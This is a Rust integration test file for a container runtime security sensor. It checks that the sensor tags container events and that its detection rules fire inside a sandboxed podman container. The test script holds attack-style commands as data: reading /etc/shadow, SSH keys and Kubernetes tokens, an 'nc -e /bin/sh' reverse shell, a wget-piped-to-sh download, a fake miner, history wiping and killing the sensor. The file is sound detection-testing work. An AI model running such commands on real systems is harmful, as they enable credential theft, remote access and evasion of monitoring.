//! Container enrichment on a real container: Debian's podman with runc runs a busybox
//! image imported from a root filesystem built here (no pulls), and the events of the
//! processes inside must name the container's id and container-relative paths. Needs
//! root, BTF and podman; without them the test says why and passes, unless
//! VIGIL_REQUIRE_SERVICES=1 (scripts/test) makes a missing podman a failure.

use serde_json::Value;
use std::path::Path;
use std::process::Command;
use std::sync::atomic::{AtomicBool, Ordering};
use std::sync::{Arc, Mutex, mpsc};
use std::time::{Duration, Instant};
use vigil_sensor::collector::{self, Config};
use vigil_sensor::enrich::{Enricher, NoMetadata, ProcFs};
use vigil_sensor::event::Event;
use vigil_sensor::pipeline::Pipeline;
use vigil_sensor::sink::Sink;
use vigil_sensor::watch::WatchTable;

struct Collect(Arc<Mutex<Vec<Value>>>);

impl Sink for Collect {
    fn send(&mut self, event: &Event<'_>) -> std::io::Result<()> {
        self.0.lock().unwrap().push(serde_json::to_value(event)?);
        Ok(())
    }
    fn alert(&mut self, alert: &vigil_core::Alert) -> std::io::Result<()> {
        let mut v = serde_json::to_value(alert)?;
        v["kind"] = "alert".into();
        self.0.lock().unwrap().push(v);
        Ok(())
    }
    fn flush(&mut self) -> std::io::Result<()> {
        Ok(())
    }
}

const IMAGE: &str = "localhost/vigil-sensor-test:busybox";

fn can_run() -> bool {
    let required = std::env::var_os("VIGIL_REQUIRE_SERVICES").is_some_and(|v| v == "1");
    if !rustix::process::geteuid().is_root() {
        eprintln!("skipping: the container test needs root");
        return false;
    }
    if !Path::new(collector::BTF_PATH).exists() {
        eprintln!("skipping: {} is missing", collector::BTF_PATH);
        return false;
    }
    let podman = Command::new("podman")
        .arg("--version")
        .output()
        .is_ok_and(|o| o.status.success());
    let busybox = Path::new("/bin/busybox").exists();
    if !podman || !busybox {
        let msg = "the container test needs podman, runc and busybox-static (apt-get install podman runc busybox-static)";
        assert!(!required, "{msg}");
        eprintln!("skipping: {msg}");
        return false;
    }
    true
}

/// A busybox root file system with `applets`, plus what `extra` adds to it, imported as
/// `image`.
fn import_image(image: &str, applets: &[&str], extra: impl FnOnce(&Path)) {
    let dir = tempfile::tempdir().unwrap();
    let root = dir.path().join("rootfs");
    for d in ["bin", "etc", "tmp", "proc", "sys", "dev"] {
        std::fs::create_dir_all(root.join(d)).unwrap();
    }
    std::fs::copy("/bin/busybox", root.join("bin/busybox")).unwrap();
    for applet in applets {
        std::os::unix::fs::symlink("busybox", root.join("bin").join(applet)).unwrap();
    }
    std::fs::write(root.join("etc/passwd"), "root:x:0:0:root:/root:/bin/sh\n").unwrap();
    std::fs::write(root.join("etc/shadow"), "root:*:1::::::\n").unwrap();
    extra(&root);
    let tar = dir.path().join("rootfs.tar");
    let ok = Command::new("tar")
        .arg("-C")
        .arg(&root)
        .arg("-cf")
        .arg(&tar)
        .arg(".")
        .status()
        .unwrap()
        .success();
    assert!(ok, "tar");
    let out = Command::new("podman")
        .arg("import")
        .arg(&tar)
        .arg(image)
        .output()
        .unwrap();
    assert!(
        out.status.success(),
        "podman import: {}",
        String::from_utf8_lossy(&out.stderr)
    );
}

#[test]
fn container_events_name_the_container() {
    if !can_run() {
        return;
    }
    import_image(IMAGE, &["sh", "cat", "sleep", "true"], |_| {});

    let events = Arc::new(Mutex::new(Vec::new()));
    let stop = Arc::new(AtomicBool::new(false));
    let (ready_tx, ready_rx) = mpsc::channel();
    let handle = {
        let events = events.clone();
        let stop = stop.clone();
        std::thread::spawn(move || {
            let enricher = Enricher::new(Box::new(ProcFs), Box::new(NoMetadata));
            let mut pipeline = Pipeline::new(
                enricher,
                "n".into(),
                WatchTable::defaults(),
                Collect(events),
            )
            .on_attached(move |_| {
                let _ = ready_tx.send(());
            });
            collector::run(&Config::default(), &mut pipeline, &stop, None)
        })
    };
    ready_rx
        .recv_timeout(Duration::from_secs(60))
        .expect("collector attached");

    let marker = format!("vigil-ctr-{}", std::process::id());
    let dir = tempfile::tempdir().unwrap();
    let cidfile = dir.path().join("cid");
    // The runtime flags this kernel's hybrid cgroup layout needs (crun refuses it).
    let out = Command::new("podman")
        .args(["run", "--rm", "--runtime", "runc", "--network", "none"])
        .args([
            "--ulimit",
            "nofile=1024:1024",
            "--ulimit",
            "nproc=1024:1024",
        ])
        .arg("--cidfile")
        .arg(&cidfile)
        .args([
            IMAGE,
            "/bin/sh",
            "-c",
            "cat /etc/shadow > /dev/null; sleep 1",
            &marker,
        ])
        .output()
        .unwrap();
    // The image is imported afresh by each run; leave no dangling copies behind.
    let _ = Command::new("podman").args(["rmi", "-f", IMAGE]).output();
    assert!(
        out.status.success(),
        "podman run: {}",
        String::from_utf8_lossy(&out.stderr)
    );
    let cid = std::fs::read_to_string(&cidfile)
        .unwrap()
        .trim()
        .to_string();
    assert_eq!(cid.len(), 64, "{cid}");

    let deadline = Instant::now() + Duration::from_secs(5);
    let has_open = |ev: &[Value]| {
        ev.iter().any(|e| {
            e["kind"] == "open"
                && e["container_id"] == cid.as_str()
                && e["open"]["path"] == "/etc/shadow"
        })
    };
    while !has_open(&events.lock().unwrap()) && Instant::now() < deadline {
        std::thread::sleep(Duration::from_millis(50));
    }
    stop.store(true, Ordering::Relaxed);
    let stats = handle.join().unwrap().expect("collector run");
    let ev = events.lock().unwrap();
    let ours: Vec<&Value> = ev
        .iter()
        .filter(|e| e["container_id"] == cid.as_str())
        .collect();
    let dump = || serde_json::to_string_pretty(&ours).unwrap();

    let exec = ours
        .iter()
        .find(|e| {
            e["kind"] == "exec"
                && e["exec"]["args"]
                    .as_array()
                    .is_some_and(|a| a.iter().any(|x| x == marker.as_str()))
        })
        .unwrap_or_else(|| {
            panic!(
                "no exec with the marker in the container; its events: {}",
                dump()
            )
        });
    // Paths are the container's, not the host's overlay paths.
    assert_eq!(exec["process"]["exe"], "/bin/busybox", "{exec}");
    assert_eq!(exec["exec"]["filename"], "/bin/sh");
    assert_eq!(exec["exec"]["cwd"], "/");

    let open = ours
        .iter()
        .find(|e| e["kind"] == "open" && e["open"]["path"] == "/etc/shadow")
        .unwrap_or_else(|| {
            panic!(
                "no open of /etc/shadow in the container; its events: {}",
                dump()
            )
        });
    assert_eq!(open["process"]["name"], "cat");
    assert!(open["open"]["result"].as_i64().unwrap() >= 0);

    // Host processes (podman itself) are not given the container's id.
    assert!(
        ev.iter()
            .any(|e| e["process"]["name"] == "podman" && e["container_id"].is_null()),
        "podman's own events should be host events"
    );
    assert_eq!(stats.kernel_drops, 0);
}

const RULES_IMAGE: &str = "localhost/vigil-sensor-test:rules";

/// What the rules test's container does, one behaviour a line; the lines marked `near
/// miss` must raise nothing of the rule their neighbour raises. Debian's busybox runs
/// some applets (touch, rm, killall) inside the shell without an exec, so those go
/// through `timeout`, which execs them as a shell in other images would.
const SCRIPT: &str = r#"
cat /etc/shadow > /dev/null
cat /etc/passwd > /dev/null # near miss
cat /root/.ssh/id_rsa > /dev/null
cat /var/run/secrets/kubernetes.io/serviceaccount/token > /dev/null
cat /var/run/secrets/kubernetes.io/serviceaccount/namespace > /dev/null # near miss
echo > /etc/ld.so.preload
cat /etc/ld.so.preload > /dev/null # near miss
cp /bin/busybox /tmp/bb && /tmp/bb true
cp /bin/busybox /tmp/xmrig; /tmp/xmrig 2> /dev/null
timeout 2 nc 169.254.169.254 80
timeout 2 nc 10.96.0.1 443
timeout 2 nc 192.0.2.10 3333
timeout 2 nc 192.0.2.10 8080 # near miss
timeout 2 nc 192.0.2.10 4444 -e /bin/sh
sh -c 'wget -q -O- http://192.0.2.10/i.sh | sh'
timeout 5 touch -r /bin/busybox /tmp/bb
timeout 5 touch /tmp/ready # near miss
timeout 5 rm -f /root/.ash_history
timeout 5 rm -f /tmp/ready # near miss
timeout 5 killall vigil
timeout 2 arping -c 1 -w 1 -I lo 127.0.0.1
timeout 2 ping -c 1 -W 1 127.0.0.1 # near miss
unshare -U true
dpkg -l > /dev/null
true
"#;

/// The rules judge what a real container does: each behaviour busybox can do raises its
/// built-in rule with the container's id, process tree and evidence, and the near misses
/// beside them raise nothing of it. The rest of the built-ins are covered by
/// tests/builtin_runtime.rs with synthetic events.
#[test]
fn builtin_rules_fire_on_real_container_behaviour() {
    if !can_run() {
        return;
    }
    let applets = [
        "sh", "cat", "true", "cp", "nc", "timeout", "wget", "touch", "rm", "killall", "unshare",
        "arping", "ping", "dpkg", "echo",
    ];
    import_image(RULES_IMAGE, &applets, |root| {
        std::fs::create_dir_all(root.join("root/.ssh")).unwrap();
        std::fs::write(root.join("root/.ssh/id_rsa"), "not a key\n").unwrap();
        std::fs::write(root.join("root/.ash_history"), "ls\n").unwrap();
        std::fs::create_dir_all(root.join("var/lib/dpkg")).unwrap();
        std::fs::write(root.join("var/lib/dpkg/status"), "").unwrap();
    });
    // The service-account volume, mounted where Kubernetes mounts it.
    let secrets = tempfile::tempdir().unwrap();
    std::fs::write(secrets.path().join("token"), "eyJhbGciOi.fake.token").unwrap();
    std::fs::write(secrets.path().join("namespace"), "shop").unwrap();

    let events = Arc::new(Mutex::new(Vec::new()));
    let stop = Arc::new(AtomicBool::new(false));
    let (ready_tx, ready_rx) = mpsc::channel();
    let handle = {
        let events = events.clone();
        let stop = stop.clone();
        std::thread::spawn(move || {
            let enricher = Enricher::new(Box::new(ProcFs), Box::new(NoMetadata));
            let rules = vigil_sensor::detect::engine(true, &[] as &[&Path]).unwrap();
            let mut pipeline = Pipeline::new(
                enricher,
                "n".into(),
                WatchTable::defaults(),
                Collect(events),
            )
            .with_rules(Arc::new(rules), false)
            .on_attached(move |_| {
                let _ = ready_tx.send(());
            });
            collector::run(&Config::default(), &mut pipeline, &stop, None)
        })
    };
    ready_rx
        .recv_timeout(Duration::from_secs(60))
        .expect("collector attached");

    let dir = tempfile::tempdir().unwrap();
    let cidfile = dir.path().join("cid");
    let out = Command::new("podman")
        .args(["run", "--rm", "--runtime", "runc", "--network", "none"])
        .args([
            "--ulimit",
            "nofile=1024:1024",
            "--ulimit",
            "nproc=1024:1024",
        ])
        .arg("-v")
        .arg(format!(
            "{}:/var/run/secrets/kubernetes.io/serviceaccount:ro",
            secrets.path().display()
        ))
        .arg("--cidfile")
        .arg(&cidfile)
        .args([RULES_IMAGE, "/bin/sh", "-c", SCRIPT])
        .output()
        .unwrap();
    let _ = Command::new("podman")
        .args(["rmi", "-f", RULES_IMAGE])
        .output();
    assert!(
        out.status.success(),
        "podman run: {}",
        String::from_utf8_lossy(&out.stderr)
    );
    let cid = std::fs::read_to_string(&cidfile)
        .unwrap()
        .trim()
        .to_string();

    // The script's last command; everything before it has been judged once it is seen.
    let deadline = Instant::now() + Duration::from_secs(10);
    let done = |ev: &[Value]| {
        ev.iter().any(|e| {
            e["kind"] == "exec"
                && e["container_id"] == cid.as_str()
                && e["process"]["name"] == "dpkg"
        })
    };
    while !done(&events.lock().unwrap()) && Instant::now() < deadline {
        std::thread::sleep(Duration::from_millis(50));
    }
    std::thread::sleep(Duration::from_millis(300));
    stop.store(true, Ordering::Relaxed);
    let stats = handle.join().unwrap().expect("collector run");
    let all = events.lock().unwrap();
    let alerts: Vec<&Value> = all
        .iter()
        .filter(|e| e["kind"] == "alert" && e["runtime"]["container_id"] == cid.as_str())
        .collect();
    let summary = || {
        alerts
            .iter()
            .map(|a| format!("{} {}", a["rule_id"], a["output"]))
            .collect::<Vec<_>>()
            .join("\n")
    };
    let fired = |id: &str, evidence: &dyn Fn(&Value) -> bool| {
        alerts
            .iter()
            .any(|a| a["rule_id"] == id && evidence(&a["evidence"][0]))
    };
    let path = |p: &'static str| move |e: &Value| e["open"]["path"] == p;
    let port = |n: u16| move |e: &Value| e["connect"]["port"] == n;
    let arg = |s: &'static str| {
        move |e: &Value| {
            e["exec"]["args"]
                .as_array()
                .is_some_and(|a| a.iter().any(|x| x.as_str().is_some_and(|x| x.contains(s))))
        }
    };
    let any = |_: &Value| true;
    for (id, evidence) in [
        (
            "RUNTIME-shell-in-container",
            &any as &dyn Fn(&Value) -> bool,
        ),
        ("RUNTIME-read-sensitive-file", &path("/etc/shadow")),
        ("RUNTIME-ssh-key-access", &path("/root/.ssh/id_rsa")),
        (
            "RUNTIME-service-account-token",
            &path("/var/run/secrets/kubernetes.io/serviceaccount/token"),
        ),
        ("RUNTIME-ld-preload-write", &path("/etc/ld.so.preload")),
        ("RUNTIME-exec-from-temp", &|e: &Value| {
            e["process"]["exe"] == "/tmp/bb"
        }),
        ("RUNTIME-container-drift", &|e: &Value| {
            e["process"]["exe"] == "/tmp/bb"
        }),
        ("RUNTIME-crypto-miner-process", &|e: &Value| {
            e["process"]["name"] == "xmrig"
        }),
        ("RUNTIME-cloud-metadata", &port(80)),
        ("RUNTIME-k8s-api-from-container", &port(443)),
        ("RUNTIME-stratum-port", &port(3333)),
        ("RUNTIME-network-tool-in-container", &arg("192.0.2.10")),
        ("RUNTIME-reverse-shell", &arg("-e")),
        ("RUNTIME-download-then-run", &arg("wget -q")),
        ("RUNTIME-timestamp-tampering", &arg("-r")),
        ("RUNTIME-clear-logs-or-history", &arg(".ash_history")),
        ("RUNTIME-kill-security-process", &arg("vigil")),
        ("RUNTIME-namespace-change", &|e: &Value| {
            e["kind"] == "unshare"
        }),
        ("RUNTIME-package-manager-in-container", &arg("-l")),
        ("RUNTIME-packet-socket", &|e: &Value| {
            e["syscall"]["domain"] == 17
        }),
    ] {
        assert!(
            fired(id, evidence),
            "{id} did not fire; alerts:\n{}",
            summary()
        );
    }
    // Near misses: seen, and silent.
    let seen = |f: &dyn Fn(&Value) -> bool| {
        all.iter()
            .any(|e| e["kind"] != "alert" && e["container_id"] == cid.as_str() && f(e))
    };
    assert!(
        seen(&path("/etc/passwd")) && !fired("RUNTIME-read-sensitive-file", &path("/etc/passwd"))
    );
    let namespace = path("/var/run/secrets/kubernetes.io/serviceaccount/namespace");
    assert!(seen(&namespace) && !fired("RUNTIME-service-account-token", &namespace));
    let preload_read =
        |e: &Value| e["open"]["path"] == "/etc/ld.so.preload" && e["open"]["write"] == false;
    assert!(seen(&preload_read) && !fired("RUNTIME-ld-preload-write", &preload_read));
    assert!(seen(&port(8080)) && !fired("RUNTIME-stratum-port", &port(8080)));
    assert!(seen(&arg("/tmp/ready")));
    let ping = |e: &Value| e["kind"] == "socket" && e["process"]["name"] == "ping";
    assert!(
        seen(&ping) && !fired("RUNTIME-raw-socket", &ping),
        "{}",
        summary()
    );
    assert!(!fired("RUNTIME-timestamp-tampering", &arg("/tmp/ready")));
    assert!(!fired("RUNTIME-clear-logs-or-history", &arg("/tmp/ready")));
    // The image's own binary is not drift; the runtime setting the container up (runc
    // init unsharing and mounting inside its cgroup) is not an attack.
    let busybox = |e: &Value| e["process"]["exe"] == "/bin/busybox";
    assert!(!fired("RUNTIME-container-drift", &busybox), "{}", summary());
    let runc = |e: &Value| {
        e["process"]["name"]
            .as_str()
            .is_some_and(|n| n.starts_with("runc"))
    };
    assert!(
        !alerts.iter().any(|a| runc(&a["evidence"][0])),
        "{}",
        summary()
    );

    // An alert names the container, carries the process tree up through the script's
    // shell, and the event as evidence.
    let shadow = alerts
        .iter()
        .find(|a| a["rule_id"] == "RUNTIME-read-sensitive-file")
        .unwrap();
    assert_eq!(shadow["kind"], "alert");
    assert_eq!(shadow["mitre_technique"], "T1003.008");
    assert_eq!(shadow["runtime"]["node"], "n");
    let tree = shadow["runtime"]["processes"].as_array().unwrap();
    assert_eq!(tree[0]["name"], "cat", "{shadow}");
    assert!(
        tree.iter().skip(1).any(|p| p["name"] == "sh"),
        "the script's shell in the tree: {shadow}"
    );
    assert!(shadow["output"].as_str().unwrap().contains(&cid[..12]));
    assert_eq!(stats.kernel_drops, 0);
}
